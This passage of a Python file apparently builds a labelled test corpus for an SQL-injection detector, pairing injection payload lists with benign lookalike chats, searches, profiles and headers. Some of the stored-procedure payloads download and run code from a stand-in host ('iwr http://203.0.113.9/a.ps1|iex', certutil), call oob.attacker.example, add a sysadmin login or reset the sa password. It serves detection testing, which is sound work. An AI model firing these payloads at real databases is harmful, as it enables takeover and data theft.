# DBMS_JAVA / DBMS_SCHEDULER; commands written to run under cmd and PowerShell
STORED_PROC: list[Entry] = [
    "'; EXEC xp_cmdshell 'whoami'--",
    "1; EXEC master..xp_cmdshell 'ping -n 1 oob.attacker.example'--",
    "'; EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE;--",
    "';EXEC master.dbo.xp_cmdshell 'powershell -c \"iwr http://203.0.113.9/a.ps1|iex\"'--",
    "'; DECLARE @o INT;EXEC sp_OACreate 'WScript.Shell',@o OUT;EXEC sp_OAMethod @o,'Run',NULL,"
    "'cmd /c whoami > C:\\temp\\o.txt';--",
    "'; EXEC sp_executesql N'SELECT @@version'--",
    "'; EXEC('xp_cmd'+'shell ''dir c:\\''')--",
    "';EXEC master..sp_addlogin 'eve','P@ss1';EXEC master..sp_addsrvrolemember 'eve','sysadmin'--",
    "'; EXEC sp_addextendedproc 'xp_cmdshell','xplog70.dll'--",
    "'; EXEC xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services\\MSSQLSERVER','ObjectName'--",
    "'; EXEC master..xp_servicecontrol 'start','schedule'--",
    "'; EXEC sp_linkedservers--",
    "'; EXEC ('SELECT 1') AT [LINKEDSRV]--",
    "'; EXEC msdb.dbo.sp_add_jobstep @job_name='x',@step_name='s',@subsystem='CMDEXEC',@command='whoami'--",
    "'; EXEC sp_execute_external_script @language=N'Python',@script=N'import os;os.system(\"whoami\")'--",
    "'; CALL sys_exec('id');-- -",
    "' AND sys_eval('id') IS NOT NULL-- -",
    "'; CREATE FUNCTION sys_exec RETURNS int SONAME 'lib_mysqludf_sys.so';-- -",
    "'; COPY (SELECT 1) TO PROGRAM 'nslookup oob.attacker.example';--",
    "'; CREATE TABLE c(o text); COPY c FROM PROGRAM 'id'; SELECT * FROM c;--",
    "'; CREATE OR REPLACE FUNCTION sys(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
    "LANGUAGE C STRICT;--",
    "'; SELECT DBMS_JAVA.RUNJAVA('oracle/aurora/util/Wrapper /bin/sh -c id') FROM dual--",
    "'; BEGIN DBMS_SCHEDULER.CREATE_JOB(job_name=>'x',job_type=>'EXECUTABLE',job_action=>'/bin/sh',"
    "enabled=>TRUE); END;--",
    "1;EXEC master..xp_cmdshell 'certutil -urlcache -f http://203.0.113.9/n.exe C:\\Windows\\Temp\\n.exe'--",
    "';exec xp_cmdshell 'echo %USERNAME% & id & whoami'--",
    "x');EXEC xp_cmdshell 'net user eve P@ss1 /add';--",
    "'; BEGIN EXECUTE IMMEDIATE 'GRANT DBA TO SCOTT'; END;--",
    "'; exec sp_password NULL,'pwned','sa';--",
]
# ORDER BY / GROUP BY / HAVING: column counting, sort-parameter injection (a CASE or sub-select where a column name
# goes), HAVING errors that leak columns (MSSQL), WITH ROLLUP NULL rows (MySQL), PROCEDURE ANALYSE (MySQL 5)
ORDER_GROUP: list[Entry] = [
    "1 ORDER BY 10-- -",
    "' ORDER BY 3-- -",
    P3 + "ORDER BY 5-- -",
    "' GROUP BY 1,2,3-- -",
    "' HAVING 1=1--",
    "' GROUP BY users.id HAVING 1=1--",
    "1 GROUP BY CONCAT(version(),FLOOR(RAND(0)*2)) HAVING MIN(0)",
    "(CASE WHEN (1=1) THEN name ELSE email END)",
    "(SELECT CASE WHEN (current_user='postgres') THEN 1 ELSE 1/0 END)",
    "id,(SELECT 1 FROM (SELECT SLEEP(5))a)",
    "id LIMIT 1 PROCEDURE ANALYSE(extractvalue(rand(),concat(0x3a,version())),1)",
    "(SELECT 1 FROM pg_sleep(5))",
    "IF(ASCII(SUBSTRING(user(),1,1))>64,id,name)",
    "' GROUP BY password HAVING 1=1-- -",
    "1 HAVING 1=1",
    "' HAVING 1=0-- -",
    "created_at;SELECT pg_sleep(5)--",
    "name,extractvalue(1,concat(0x7e,user()))",
    "1 ORDER BY 1,2,3,4,5,6,7,8,9,10#",
    "') ORDER BY 1-- -",
    "\" ORDER BY 2-- -",
    "1 GROUP BY 1 WITH ROLLUP",
    "' GROUP BY 1 WITH ROLLUP LIMIT 1 OFFSET 1-- -",
    "(CASE WHEN (SELECT COUNT(*) FROM admin_accounts)>0 THEN id ELSE name END)",
    "' GROUP BY CONCAT_WS(0x3a,user(),FLOOR(RAND(0)*2)) HAVING MIN(0)-- -",
    "1 ORDER BY updatexml(1,concat(0x7e,database()),1)",
    "ASC,(SELECT SLEEP(5))",
    "name DESC,(SELECT CASE WHEN (1=1) THEN 1 ELSE 1*(SELECT 1 UNION SELECT 2) END)",
]
# LIKE / ILIKE / RLIKE / REGEXP / SIMILAR TO / GLOB, BETWEEN and IN as the condition (MySQL, PostgreSQL, SQLite,
# MSSQL), including breakouts from a LIKE '%..%' search box
LIKE_IN: list[Entry] = [
    "%' OR 1=1-- -",
    "' OR name LIKE '%",
    "' OR 1 LIKE 1-- -",
    "' OR 'a' LIKE 'a",
    "%' AND user() LIKE 'root%'-- -",
    "' OR username LIKE 'adm%'-- -",
    "' AND (SELECT password_hash FROM admin_accounts LIMIT 1) LIKE '$2%'-- -",
    "' OR 2 BETWEEN 1 AND 3-- -",
    "' AND ASCII(SUBSTRING(user(),1,1)) BETWEEN 97 AND 122-- -",
    "1 AND 5 BETWEEN 1 AND 9",
    "' OR 1 IN (1)-- -",
    "' OR 'admin' IN (SELECT username FROM admin_accounts)-- -",
    "1 AND user() IN ('root@localhost')",
    "' OR id IN (SELECT id FROM users)-- -",
    "' OR 1 NOT IN (2)-- -",
    "' OR name NOT LIKE 'zzz",
    "' OR email ILIKE '%@%'--",
    "' OR name RLIKE '.*'-- -",
    "' OR name REGEXP '^a'-- -",
    "' OR name SIMILAR TO '%'--",
    "' OR name GLOB '*'--",
    "' AND current_user ~ '^post'--",
    "%' AND SLEEP(5) AND '%'='",
    P3 + "OR 1 BETWEEN 0 AND 2-- -",
    "_' OR '_' LIKE '_",
    "' OR substr(name,1,1) BETWEEN 'a' AND 'z'--",
    "' AND (SELECT version()) LIKE '8.%'-- -",
    "%' OR 'x' LIKE '%",
    "' OR name BETWEEN 'a' AND 'zzzz",
]

FAMILIES: list[tuple[str, str, list[Entry]]] = [
    ("sqli", "libinjection-sqli", LIBINJ),
    ("sqli", "sql-tautology-boolean", TAUTOLOGY),
    ("sqli", "sql-comment-sequence", COMMENT_SEQ),
    ("sqli", "union-select", UNION),
    ("sqli", "stacked-queries", STACKED),
    ("sqli", "time-based-blind", TIME),
    ("sqli", "error-based", ERROR),
    ("sqli", "out-of-band", OOB),
    ("sqli", "information-schema-probing", CATALOG),
    ("sqli", "mysql-comment-obfuscation", MYSQL_COMMENT),
    ("sqli", "function-based-probing", FUNCTIONS),
    ("sqli", "sql-authentication-bypass", AUTH_BYPASS),
    ("sqli", "nosql-injection", NOSQL),
    ("sqli", "hex-char-encoding", HEX_CHAR),
    ("sqli", "stored-procedure-xp-cmdshell", STORED_PROC),
    ("sqli", "having-group-order-by-probing", ORDER_GROUP),
    ("sqli", "like-between-in-operators", LIKE_IN),
]
# `field[$op]=value` pairs written as the query string itself, sent unquoted
RAW_KV_SUBS = {"nosql-injection"}
# login bypasses go to the login form (username and password), and to a form body in the regression-suite style
SUB_CYCLES = {"sql-authentication-bypass": (["login", "login", "form", "json"],
                                            ["rs-form", "rs-json", "rs-query", "rs-raw-body"])}

# ----------------------------------------------------------------------------------------------------------------
# Placements
IMPORT_CSV = "name,email\nAnn Lee,ann@example.org\n"


class _Set(BlindSet):
    prefix = NAME
    families = FAMILIES
    raw_subs = RAW_KV_SUBS
    real_cycle = ["query", "admin-query", "json", "cookie", "header:User-Agent", "header:Referer",
                  "header:X-Forwarded-For", "param-name", "xml", "multipart-field", "multipart-filename", "path",
                  "form"]
    names = ["team_id", "q", "sort", "name", "email", "order", "filter", "offset", "search"]
    rs_names = ["foo", "id", "user", "q", "arg1", "search"]
    fallback = ["json", "admin-query", "query"]
    boundary = "----WebKitFormBoundaryq3Xk9PzR2mVt8LcA"
    upload = IMPORT_CSV
    file_type = "text/csv"
    page = ("limit", "50")
    one_line = ("cookie", "rs-cookie", "multipart-filename")

    def cycles(self, category: str, sub: str, payload: str) -> Cycles:
        return SUB_CYCLES.get(sub, (self.real_cycle, self.rs_cycle))

    def _p_admin_query(self, p: Put) -> Record:
        return _get(_query("/admin/users", [("q", p.v), ("page", "1")]))

    def _p_form(self, p: Put) -> Record:
        if p.raw:
            return request("POST", "/admin/login", CSRF + self._raw(p), FORM)
        return _form("/admin/login", [("csrf_token", "t0k3n"), ("username", p.v), ("password", "Winter2024!")])

    def _p_login(self, p: Put) -> Record:
        return _form("/admin/login", [("csrf_token", "t0k3n"), ("username", p.v), ("password", p.v)])

    def _p_json(self, p: Put) -> Record:
        return {**_json("/api/users/7", {"name": p.v}), "method": "PATCH"}

    def _p_multipart_field(self, p: Put) -> Record:
        body = self.multipart([("csrf_token", "t0k3n", None), (p.name, p.v, None)])
        return request("POST", "/admin/users/import", body, self.multipart_type)


SET = _Set()


def attacks() -> Iterator[dict[str, Any]]:
    return SET.attacks()


# ----------------------------------------------------------------------------------------------------------------
# Benign: the same words, typed innocently (Slack chat and bios, searches, admin notes, links, profiles, uploads)
CHAT = [
    # databases in support and engineering chat
    "the users list is slow again, the ORDER BY on created_at has no index on staging",
    "can someone with prod access run a select count(*) on the sessions table? just want the number",
    "Postgres 16 upgrade is done, pg_dump of the old cluster is in the backup bucket",
    "MySQL 8 deprecated the query cache, that's why the old tuning guide doesn't apply",
    "who dropped the table on the dev database? no worries, just restoring from the snapshot",
    "the migration adds a NOT NULL column, run it in the maintenance window",
    "UNION ALL is faster than UNION here because we don't need the dedupe",
    "the report query uses GROUP BY team_id and HAVING count(*) > 10 to find the big teams",
    "LIKE with a leading % can't use the btree index, use the trigram index instead",
    "BETWEEN is inclusive on both ends, that's why the March report double counted the 1st",
    "the IN list with 5000 ids was the problem, switched to a temp table join",
    "pg_sleep in the test fixture was to simulate a slow DB, it's removed now",
    "the healthcheck does SELECT 1 every 10 seconds, that's the noise in the slow log",
    "information_schema queries from the ORM on startup take 2s, caching the metadata fixes it",
    "use the query builder, never string concatenation, the review checklist says so",
    "SQLAlchemy text() with bound parameters is fine, f-strings in SQL are not",
    "the CSV export wraps names with quotes, O'Brien came out fine in the test",
    "the name field allows apostrophes, Siobhán O'Connor couldn't save her profile before the fix",
    "benchmark results: the new index cuts p95 from 180ms to 40ms",
    "the nightly job has a sleep of 5 seconds between batches so the replica keeps up",
    "WAITFOR in the SQL Server job was left from debugging, removed it",
    "the MSSQL linked server to the finance DB is read only",
    "xp_cmdshell is disabled on the reporting SQL Server, the auditor asked and we confirmed",
    "the Oracle DBA says the stats job runs at 22:00, don't schedule imports then",
    "SQLite is only used in the CLI for local caching",
    "MongoDB Atlas cluster for analytics is in eu-west-1",
    "the Mongo query uses $in with the team ids and $gte on the date",
    "the $where operator is slow in Mongo, we rewrote it with $expr",
    "Mongoose strictQuery is on, unknown filter fields are dropped",
    "the aggregate pipeline has a $lookup into the orders collection, that's the slow stage",
    "hex dump of the file shows 0x89 0x50 0x4E 0x47 so it's a PNG after all",
    "the CHAR(10) in the export is a newline, Excel shows it as a line break",
    "concat of first and last name happens in the view, not in the DB",
    "substring of the phone number for the masked display, last 4 digits only",
    "the extractvalue function came up in the XML import code review, we use lxml instead",
    "CAST(amount AS numeric) fixes the rounding in the invoice totals",
    "CONVERT with style 126 gives ISO dates in SQL Server",
    "load_file is off because secure_file_priv is set, good",
    "the admin login locked me out after 5 tries, can someone reset it?",
    "password reset mail goes to the old address, I updated my profile email",
    "the audit log shows the failed logins with the username typed, useful for support",
    "the stored procedure for monthly billing was rewritten in Python",
    "sp_who2 showed the blocking session, it was the backup",
    "the DB user for the app has no DROP or ALTER grants, only the migrator does",
    "the dump with --no-owner restored fine on the new cluster",
    "the query plan shows a seq scan on users, the WHERE on lower(email) needs a functional index",
    "comment out the debug SELECT before merging please",
    "the SQL comment -- TODO in the migration is still there, remove it",
    "dblink was removed from the reporting DB, we use foreign tables now",
    "COPY FROM STDIN is how the bulk import loads the CSV, 10x faster than inserts",
    "INTO OUTFILE is blocked on the managed MySQL, use mysqldump instead",
    "utl_http needs an ACL on Oracle 12+, the integration team is on it",
    "the 1=1 in the query builder is just so every filter can start with AND",
    "I searched for O'Reilly in the admin and got no results, is the apostrophe handled?",
    "the NoSQL vs SQL debate again in #architecture, grab popcorn",
    "the sqlmap training for the security team is next Thursday",
    "pen test report came back, one medium finding about verbose SQL errors, fixed",
    "the error page no longer prints the SQL error, just a request id",
    "the having clause filters after grouping, the where clause before, classic interview question",
    "order by random() on a big table is slow, sample with TABLESAMPLE instead",
    "the union of the two customer lists has 12k rows after dedupe",
    "the schema diagram is updated with the new admin_accounts table",
    "rename the column in two steps so the old app version keeps working",
    "the select dropdown on the users page doesn't show inactive users, by design",
    "the drop-down for teams is sorted by name now",
    "the update to the billing plan goes live on the 1st",
    "exec summary: 99.97% uptime, one incident with the DB failover",
    "delete the stale feature flags from the admin page when you have a minute",
    "truncate the long names in the table view to 40 characters",
    "the JSON column settings has alerts true or false per user",
]
SEARCHES = [
    "O'Brien", "O'Neil", "D'Angelo", "Mc'Donald", "Anne-Marie", "José", "Zoë", "Ñúñez", "admin", "root",
    "select", "union", "order", "group", "having", "like", "between", "sleep", "benchmark", "wait for",
    "drop", "delete", "update", "insert", "exec", "cast", "convert", "char", "concat", "substring",
    "hex", "ascii", "version", "database", "schema", "information", "table", "column", "mongo", "postgres",
    "mysql", "oracle", "sqlite", "sql server", "dblink", "outfile", "load", "comment", "procedure", "where",
    "true", "false", "null", "1=1", "or", "and", "not", "in", "team 1", "acme & sons",
]
URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/comments.html",
    "https://dev.mysql.com/doc/refman/8.0/en/string-functions.html#function_substring",
    "https://dev.mysql.com/doc/refman/8.0/en/miscellaneous-functions.html#function_sleep",
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema.html",
    "https://dev.mysql.com/doc/refman/8.0/en/xml-functions.html",
    "https://www.postgresql.org/docs/16/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://www.postgresql.org/docs/16/sql-copy.html",
    "https://www.postgresql.org/docs/16/dblink.html",
    "https://www.postgresql.org/docs/16/functions-matching.html",
    "https://www.postgresql.org/docs/16/queries-order.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/functions/cast-and-convert-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/arpls/UTL_HTTP.html",
    "https://www.sqlite.org/lang_select.html",
    "https://www.sqlite.org/lang_corefunc.html#substr",
    "https://www.mongodb.com/docs/manual/reference/operator/query/where/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://www.mongodb.com/docs/manual/reference/operator/aggregation/lookup/",
    "https://mongoosejs.com/docs/guide.html#strictQuery",
    "https://docs.sqlalchemy.org/en/20/core/tutorial.html#using-textual-sql",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://cwe.mitre.org/data/definitions/89.html",
    "https://xkcd.com/327/",
    "https://github.com/sqlmapproject/sqlmap/wiki/Usage",
    "https://en.wikipedia.org/wiki/SQL_injection",
    "https://app.example.com/admin/users?q=O%27Brien&page=2",
]
PROSE = [
    "Customer O'Brien asked why her name shows as O&#39;Brien in the invoice email; fixed in the template.",
    "Select the users to deactivate and confirm; the union of both lists is attached.",
    "Order by last login, then by name, for the quarterly access review.",
    "Group by team and count the active users; teams having more than 50 get the enterprise plan.",
    "Search for names like 'Mac%' returned both MacLeod and Macdonald, as expected.",
    "Users created between 2024-01-01 and 2024-03-31 are in the Q1 cohort.",
    "Drop the test accounts from staging before the demo.",
    "Update the email of user 42 to the new domain, ticket #5512.",
    "Delete request from a customer under GDPR; account removed, confirmation sent.",
    "The sleep study app integration is out of scope for this quarter.",
    "Benchmark of the new search: 12ms median, 40ms p99.",
    "Wait for the DB failover to finish before restarting the workers.",
    "The stored procedure for payroll is owned by the finance IT team.",
    "Exec summary: login failures were caused by the clock skew on one node.",
    "Cast list for the company play: Ann, Bob, Chen and Dana.",
    "Convert the old PDF reports to CSV for the auditors.",
    "Concat the first and last names for the badge printer export.",
    "Substring search in the admin was requested by support for partial emails.",
    "Hex codes for the brand colours are #1A2B3C and #FF6600.",
    "ASCII art in the Slack bot's help text was removed, it broke on mobile.",
    "Database maintenance window: Sunday 02:00-04:00 UTC.",
    "Schema change review: add a nullable column, backfill, then add the constraint.",
    "Information request from legal about data retention for deleted users.",
    "Mongo cluster migration to the new region is scheduled for May.",
    "Postgres connection limit raised from 100 to 200 after the incident.",
    "MySQL replica lag alert fired twice last night; both cleared within a minute.",
    "Oracle licence renewal: 4 cores, due in June.",
    "SQL Server 2019 on the billing host gets the CU 24 patch this week.",
    "SQLite file for the CLI cache is under ~/.cache and safe to delete.",
    "Comment from the customer: 'the new dashboard is great, but the sort order resets'.",
    "Procedure for on-call handover is in the runbook, section 3.",
    "Where is the procedure for rotating the DB passwords? Can't find it in the wiki.",
    "True-up invoice for the extra seats goes out at the end of the month.",
    "Null values in the phone column are expected for Slack-only users.",
    "Outfile naming convention for exports: team-yyyy-mm-dd.csv.",
    "Load testing with 500 concurrent users passed without errors.",
    "The pen test found no SQL injection in the API; report in the security folder.",
    "Admin accounts without TOTP will be locked from next Monday.",
    "Password policy: 12 characters minimum, no composition rules, breached-password check on.",
    "Having trouble with the VPN? Restart the client and try again.",
]
PROFILES = [
    ("Siobhán O'Connor", "12 Grafton St, Dublin"),
    ("Patrick O'Brien", "4 Union Square, San Francisco"),
    ("D'Arcy Moreau", "7 Rue du Sélect, Montréal"),
    ("Anne-Marie Like", "Between Towns Rd 3, Wales"),
    ("Dr. Mongo Okafor", "Broad St 15, Lagos"),
    ("Oracle Bay Yachts", "Pier 39, San Francisco"),
    ("Union Select Coffee", "Market St 200, Philadelphia"),
    ("Order & Group Ltd", "Having Lane 1, Leeds"),
    ("Sleep Well Hotel", "Calle Mayor 10, Madrid"),
    ("Benchmark Fitness", "Gym Rd 4, Austin"),
    ("Drop Zone Skydiving", "Airfield 2, Perris, CA"),
    ("Table & Column Furniture", "Oak Ave 9, Portland"),
    ("Exec Travel GmbH", "Hauptstraße 3, Berlin"),
    ("Concat Studio", "Loft 3, Rotterdam"),
    ("Char Grill House", "King St 12, Toronto"),
    ("Hex Games Ltd", "Unit 4, Dundee"),
    ("Schema Design Co", "Via Roma 12, Milano"),
    ("Null Island Tours", "0 Equator Way, Accra"),
    ("True North Outfitters", "Main St 1, Yellowknife"),
    ("Ann Lee (she/her) -- support lead", "1 Data Way, Seattle"),
    ("Zoë Müller", "Bahnhofstraße 1, Zürich"),
    ("José Ñúñez", "Av. Paulista 1000, São Paulo"),
    ("Ma'ayan Cohen", "Rothschild Blvd 22, Tel Aviv"),
    ("N'Golo Diallo", "Rue 10, Dakar"),
    ("Amelia \"Millie\" Ortiz", "Elm St 44, Austin"),
]
UPLOAD_NAMES = [
    "users-2024-05.csv", "team import (final).csv", "O'Brien contacts.csv", "select-customers.csv",
    "union-members.csv", "order-history.csv", "group_leads.csv", "like-for-like.csv", "between-dates.csv",
    "drop-list.csv", "update 2024-06-01.csv", "admin users.csv", "mongo-export.csv", "postgres_dump_users.csv",
    "mysql-users-export.csv", "oracle-hr.csv", "sqlite-cache.csv", "schema v2.csv", "hex-colours.csv",
    "sleep-study-participants.csv",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Mobile/15E148"),
    ("User-Agent", "DBeaver/24.0.3"),
    ("User-Agent", "pgAdmin 4"),
    ("User-Agent", "MongoDB Compass/1.42.5"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "Grafana/10.4.2"),
    ("Referer", "https://app.example.com/admin/users?q=O%27Brien&page=1"),
    ("Referer", "https://www.google.com/search?q=postgres+order+by+nulls+last"),
    ("Referer", "https://stackoverflow.com/questions/1234567/mysql-group-by-having-count"),
    ("Referer", "https://dev.mysql.com/doc/refman/8.0/en/union.html"),
    ("Referer", "https://app.example.com/admin/audit?action=login&page=3"),
    ("X-Forwarded-For", "203.0.113.10"),
    ("X-Forwarded-For", "198.51.100.7, 10.0.0.12"),
    ("Accept-Language", "ga-IE,ga;q=0.9,en;q=0.8"),
    ("Cookie", "session=abc123; theme=dark; lang=en-IE"),
    ("Cookie", "session=abc123; last_search=O%27Brien; sort=name"),
    ("X-Request-Id", "4b7d2a1e-9c3f-4e8a-b1d6-7f0e2c5a9b31"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from SET.searches(SEARCHES, NAME, n)
    n = yield from numbered((_get(_query("/admin/users", [("q", q), ("page", "1")])) for q in SEARCHES[:20]),
                            f"{NAME}-adminsearch", n, "query")
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered(({**_json("/api/users/7", {"name": who, "address": where}), "method": "PATCH"}
                             for who, where in PROFILES), f"{NAME}-profile", n, "json")
    n = yield from SET.uploads(UPLOAD_NAMES, NAME, n, IMPORT_CSV)
    yield from SET.headers(BENIGN_HEADERS, NAME, n)


if __name__ == "__main__":
    print_records(attacks(), benign())
